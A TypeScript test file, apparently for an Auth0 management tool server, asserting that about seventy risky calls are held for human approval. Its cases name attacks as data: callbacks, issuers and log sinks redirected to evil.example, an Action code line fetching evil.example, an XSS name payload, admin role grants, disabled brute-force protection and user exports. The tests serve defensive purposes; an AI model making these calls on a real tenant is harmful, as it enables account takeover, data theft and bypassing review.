/** Takeover and harm without a question: writes that look plain, fields nobody expects, and detours around the review. */
import { afterAll, beforeAll, describe, test } from 'vitest';
import { type Attack, AttackBench, DATABASE, PASSWORD } from './attack-bench.js';

let bench: AttackBench;
beforeAll(async () => {
  bench = await AttackBench.start();
});
afterAll(() => bench.close());

const callback = 'https://evil.example/cb';

describe('a person is asked', () => {
  test.each<Attack>([
    [
      'callback added by add',
      'update_client',
      (at) => ({ client_id: at.client, apply: 'add', callbacks: [callback] }),
    ],
    [
      'callback given as a whole',
      'update_client',
      (at) => ({ client_id: at.client, apply: 'as_given', callbacks: [callback] }),
    ],
    [
      'callback removed by remove',
      'update_client',
      (at) => ({ client_id: at.client, apply: 'remove', callbacks: ['https://good.example/cb'] }),
    ],
    [
      'the button of an identity provider hidden',
      'update_connection',
      (at) => ({ connection_id: at.connection, show_as_button: false }),
    ],
    [
      'tokens of an API that end at once',
      'update_resource_server',
      (at) => ({ resource_server_id: at.api, token_lifetime: 1 }),
    ],
    [
      'the API by which people change their accounts, turned on',
      'create_resource_server',
      (at) => ({ identifier: at.audience?.replace('api/v2', 'me'), name: 'notes' }),
    ],
    [
      'markup in a name that mails hold',
      'update_user',
      (at) => ({ user_id: at.victim, given_name: '<img src=x onerror=alert(1)>' }),
    ],
    [
      'the same without a look at what is there',
      'update_user',
      (at) => ({ user_id: at.victim, apply: 'as_given', given_name: '<b>Ada' }),
    ],
    ['callbacks emptied', 'update_client', (at) => ({ client_id: at.client, callbacks: [] })],
    [
      'a new application that takes passwords',
      'create_client',
      () => ({ name: 'taker', token_endpoint_auth_method: 'none', grant_types: ['password'] }),
    ],
    [
      'a new application for device codes',
      'create_client',
      () => ({
        name: 'tv',
        app_type: 'native',
        grant_types: ['urn:ietf:params:oauth:grant-type:device_code'],
      }),
    ],
    ['chosen secret', 'update_client', (at) => ({ client_id: at.client, client_secret: 'x'.repeat(48) })],
    [
      'an add-on switched on by an empty object',
      'update_client',
      (at) => ({ client_id: at.client, addons: { samlp: {} } }),
    ],
    [
      'the same as given',
      'update_client',
      (at) => ({ client_id: at.client, apply: 'as_given', addons: { samlp: {} } }),
    ],
    ['an add-on of a new application', 'create_client', () => ({ name: 'addon', addons: { wsfed: {} } })],
    [
      'mobile settings nested in nothing',
      'update_client',
      (at) => ({ client_id: at.client, native_social_login: { apple: { enabled: true } } }),
    ],
    [
      'logo that people see',
      'update_client',
      (at) => ({ client_id: at.client, logo_uri: 'https://evil.example/logo.png' }),
    ],
    [
      'all metadata cleared by an empty object',
      'update_client',
      (at) => ({ client_id: at.client, apply: 'as_given', client_metadata: {} }),
    ],
    [
      'all of a person’s metadata cleared',
      'update_user',
      (at) => ({ user_id: at.victim, apply: 'as_given', user_metadata: {} }),
    ],
    [
      'metadata removed by null',
      'update_user',
      (at) => ({ user_id: at.victim, user_metadata: { note: null } }),
    ],
    [
      'an object in metadata overwritten by a text',
      'update_user',
      (at) => ({ user_id: at.victim, user_metadata: { theme: 'x' } }),
    ],
    [
      'and as given',
      'update_user',
      (at) => ({ user_id: at.victim, apply: 'as_given', user_metadata: { theme: 'x' } }),
    ],
    [
      'siblings in metadata dropped',
      'update_user',
      (at) => ({ user_id: at.victim, apply: 'as_given', user_metadata: { theme: { color: 'blue' } } }),
    ],
    [
      'app_metadata deep down',
      'update_user',
      (at) => ({ user_id: at.victim, app_metadata: { limits: { seats: 1000 } } }),
    ],
    [
      'app_metadata cleared',
      'update_user',
      (at) => ({ user_id: at.victim, apply: 'as_given', app_metadata: {} }),
    ],
    [
      'an address that counts as verified',
      'update_user',
      (at) => ({ user_id: at.victim, email: 'evil@evil.example', email_verified: true }),
    ],
    ['a phone number', 'update_user', (at) => ({ user_id: at.victim, phone_number: '+15550100099' })],
    ['a password', 'update_user', (at) => ({ user_id: at.victim, password: PASSWORD })],
    [
      'a new account with a verified address',
      'create_user',
      () => ({ connection: DATABASE, email: 'ceo@people.example', email_verified: true, password: PASSWORD }),
    ],
    [
      'a new account with app_metadata',
      'create_user',
      () => ({
        connection: DATABASE,
        email: 'c2@people.example',
        app_metadata: { role: 'admin' },
        password: PASSWORD,
      }),
    ],
    ['a role', 'assign_user_roles', (at) => ({ user_id: at.mallory, roles: [at.power] })],
    ['a role by the role', 'assign_role_users', (at) => ({ role_id: at.power, users: [at.mallory] })],
    [
      'the same person many times over',
      'assign_role_users',
      (at) => ({ role_id: at.role, users: [at.mallory, at.mallory] }),
    ],
    [
      'a role in an organization',
      'assign_organization_member_roles',
      (at) => ({ organization_id: at.organization, user_id: at.victim, roles: [at.role] }),
    ],
    [
      'membership',
      'add_organization_members',
      (at) => ({ organization_id: at.organization, members: [at.mallory] }),
    ],
    [
      'permissions',
      'assign_user_permissions',
      (at) => ({
        user_id: at.mallory,
        permissions: [{ resource_server_identifier: at.audience, permission_name: 'read:users' }],
      }),
    ],
    [
      'permissions of a role',
      'add_role_permissions',
      (at) => ({
        role_id: at.role,
        permissions: [{ resource_server_identifier: at.audience, permission_name: 'delete:users' }],
      }),
    ],
    ['a role’s name', 'update_role', (at) => ({ role_id: at.role, name: 'Admin' })],
    [
      'a grant of the Management API',
      'create_client_grant',
      (at) => ({ client_id: at.client, audience: at.audience, scope: ['delete:users'] }),
    ],
    [
      'a grant with all scopes',
      'create_client_grant',
      (at) => ({
        client_id: at.client,
        audience: 'https://attacked.example/',
        allow_all_scopes: true,
        scope: [],
      }),
    ],
    [
      'a grant made wider',
      'update_client_grant',
      (at) => ({ client_grant_id: at.grant, apply: 'add', scope: ['write:a'] }),
    ],
    [
      'scopes taken from an API',
      'update_resource_server',
      (at) => ({ resource_server_id: at.api, scopes: [{ value: 'read:a' }] }),
    ],
    [
      'one scope taken by its value',
      'update_resource_server',
      (at) => ({ resource_server_id: at.api, apply: 'remove', scopes: [{ value: 'write:a' }] }),
    ],
    [
      'a longer token lifetime',
      'update_resource_server',
      (at) => ({ resource_server_id: at.api, token_lifetime: 2_000_000 }),
    ],
    [
      'protection off',
      'update_connection',
      (at) => ({ connection_id: at.database, options: { brute_force_protection: false } }),
    ],
    [
      'protection lost by omission',
      'update_connection',
      (at) => ({ connection_id: at.database, apply: 'as_given', options: { passwordPolicy: 'excellent' } }),
    ],
    [
      'protection removed by null',
      'update_connection',
      (at) => ({ connection_id: at.database, options: { brute_force_protection: null } }),
    ],
    [
      'an option nobody reviewed',
      'update_connection',
      (at) => ({ connection_id: at.database, options: { something_new: { deep: true } } }),
    ],
    [
      'an issuer replaced',
      'update_connection',
      (at) => ({ connection_id: at.connection, options: { issuer: 'https://evil.example' } }),
    ],
    [
      'an application switched on',
      'update_connection_clients',
      (at) => ({ connection_id: at.database, clients: [{ client_id: at.otherClient, status: true }] }),
    ],
    [
      'one on and off again in a list',
      'update_connection_clients',
      (at) => ({
        connection_id: at.database,
        clients: [
          { client_id: at.client, status: true },
          { client_id: at.client, status: false },
        ],
      }),
    ],
    [
      'a new connection to a foreign provider',
      'create_connection',
      () => ({ name: 'evil-idp', strategy: 'oidc', options: { issuer: 'https://evil.example' } }),
    ],
    ['a test run that sends data out', 'test_action', (at) => ({ action_id: at.action, payload: {} })],
    [
      'new code of an Action',
      'update_action',
      (at) => ({ action_id: at.action, code: 'fetch("https://evil.example")' }),
    ],
    [
      'secrets of an Action',
      'update_action',
      (at) => ({ action_id: at.action, secrets: [{ name: 'A', value: 'b' }] }),
    ],
    [
      'a dependency of an Action',
      'update_action',
      (at) => ({ action_id: at.action, dependencies: [{ name: 'evil', version: '1.0.0' }] }),
    ],
    [
      'deploy with the making',
      'create_action',
      () => ({
        name: 'a1',
        supported_triggers: [{ id: 'post-login', version: 'v3' }],
        code: '//',
        deploy: true,
      }),
    ],
    [
      'a log stream led elsewhere',
      'update_log_stream',
      (at) => ({ log_stream_id: at.stream, sink: { httpEndpoint: 'https://evil.example/' } }),
    ],
    ['a log stream stopped', 'update_log_stream', (at) => ({ log_stream_id: at.stream, status: 'paused' })],
    ['an export', 'export_users', () => ({ format: 'json' })],
    [
      'a network rule that lets all in',
      'update_network_acl',
      (at) => ({ network_acl_id: at.acl, active: false }),
    ],
    [
      'texts that people read',
      'set_prompt_custom_text',
      () => ({ prompt: 'login', language: 'en', texts: { login: { title: 'Call +1 555' } } }),
    ],
    ['a ticket to change the password', 'create_password_change_ticket', (at) => ({ user_id: at.victim })],
    ['a ticket to verify', 'create_email_verification_ticket', (at) => ({ user_id: at.victim })],
    [
      'a ticket to enroll',
      'create_guardian_enrollment_ticket',
      (at) => ({ user_id: at.victim, email: 'evil@evil.example', send_mail: true }),
    ],
    [
      'an address that Auth0 fetches',
      'preview_cimd_client',
      () => ({ external_client_id: 'https://evil.example/client.json' }),
    ],
    [
      'logo of an organization',
      'update_organization',
      (at) => ({ organization_id: at.organization, branding: { logo_url: 'https://evil.example/x.png' } }),
    ],
    [
      'name of an organization',
      'update_organization',
      (at) => ({ organization_id: at.organization, name: 'attack-org-2' }),
    ],
    ['tenant settings', 'update_tenant_settings', () => ({ session_lifetime: 8000 })],
    [
      'a flag deep in tenant settings',
      'update_tenant_settings',
      () => ({ flags: { enable_client_connections: true } }),
    ],
    ['links in tenant settings', 'update_tenant_settings', () => ({ support_url: 'https://evil.example' })],
  ])('%s', async (_name, tool, args) => {
    await bench.stopped(tool, args(bench.at));
  });
});
